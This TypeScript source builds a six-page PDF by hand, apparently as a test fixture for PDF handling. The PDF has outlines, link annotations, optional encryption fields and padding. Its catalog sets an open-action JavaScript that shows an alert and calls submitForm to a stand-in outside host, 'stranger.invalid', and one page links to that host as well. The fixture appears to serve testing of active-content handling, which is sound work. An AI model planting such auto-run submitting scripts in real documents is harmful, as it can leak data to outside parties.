/**
 * A PDF of six pages, written by hand after ISO 32000-1: text in fonts that are not in the file,
 * contents, a link to a page, a link to a site, and scripts that want to run when it is opened.
 */
export function makePdf({
  isSealed = false,
  spareBytes = 0,
}: {
  /** Whether it asks for a password. */
  readonly isSealed?: boolean;
  /** The size of an object in the middle that no page needs. */
  readonly spareBytes?: number;
} = {}): Buffer {
  const count = 6;
  const [catalog, tree, outlines, first, second, font, script, spare] = [1, 2, 3, 4, 5, 6, 7, 8];
  const pageId = (at: number): number => 10 + at * 4;
  const objects = new Map<number, string>([
    [
      catalog,
      `<</Type/Catalog/Pages ${tree} 0 R/Outlines ${outlines} 0 R/OpenAction ${script} 0 R>>`,
    ],
    [
      tree,
      `<</Type/Pages/Count ${count}/Kids[${pageIds()
        .map((id) => `${id} 0 R`)
        .join(' ')}]>>`,
    ],
    [outlines, `<</Count 2/First ${first} 0 R/Last ${second} 0 R>>`],
    [
      first,
      `<</Title(The coast)/Parent ${outlines} 0 R/Next ${second} 0 R/Dest[${pageId(0)} 0 R/Fit]>>`,
    ],
    [
      second,
      `<</Title(The islands)/Parent ${outlines} 0 R/Prev ${first} 0 R/Dest[${pageId(2)} 0 R/Fit]>>`,
    ],
    [font, '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'],
    [
      script,
      '<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("http://stranger.invalid/"\\);)>>',
    ],
  ]);
  if (spareBytes > 0) objects.set(spare, stream('.'.repeat(spareBytes)));
  for (let at = 0; at < count; at += 1) {
    const id = pageId(at);
    const words = at === 0 ? 'The first page of the atlas' : `Page ${at + 1} of the atlas`;
    objects.set(
      id,
      `<</Type/Page/Parent ${tree} 0 R/MediaBox[0 0 400 600]/Contents ${id + 1} 0 R/Annots[${id + 2} 0 R]` +
        `/Resources<</Font<</F ${font} 0 R>>>>>>`,
    );
    objects.set(
      id + 1,
      stream(`BT /F 24 Tf 40 500 Td (${words}) Tj ET 1 0 0 rg 40 200 200 100 re f`),
    );
    const action =
      at === 0
        ? '/A<</S/URI/URI(https://stranger.invalid/map?of=1)>>'
        : `/Dest[${pageId(3)} 0 R/Fit]`;
    objects.set(id + 2, `<</Type/Annot/Subtype/Link/Border[0 0 0]/Rect[40 200 240 300]${action}>>`);
  }
  const parts = ['%PDF-1.4\n'];
  let length = parts[0]?.length ?? 0;
  const places = new Map<number, number>();
  for (const [id, body] of objects) {
    places.set(id, length);
    const text = `${id} 0 obj\n${body}\nendobj\n`;
    parts.push(text);
    length += text.length;
  }
  const size = pageId(count);
  const line = (id: number): string =>
    places.has(id)
      ? `${String(places.get(id)).padStart(10, '0')} 00000 n \n`
      : '0000000000 65535 f \n';
  const key = '00'.repeat(32);
  const seal = isSealed
    ? `/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<${key}>/U<${key}>>>/ID[<${key}><${key}>]`
    : '';
  parts.push(
    `xref\n0 ${size}\n${Array.from({ length: size }, (_, id) => line(id)).join('')}`,
    `trailer\n<</Size ${size}/Root ${catalog} 0 R${seal}>>\nstartxref\n${length}\n%%EOF\n`,
  );
  return Buffer.from(parts.join(''), 'latin1');

  function pageIds(): readonly number[] {
    return Array.from({ length: count }, (_, at) => pageId(at));
  }
}

const stream = (text: string): string => `<</Length ${text.length}>>stream\n${text}\nendstream`;
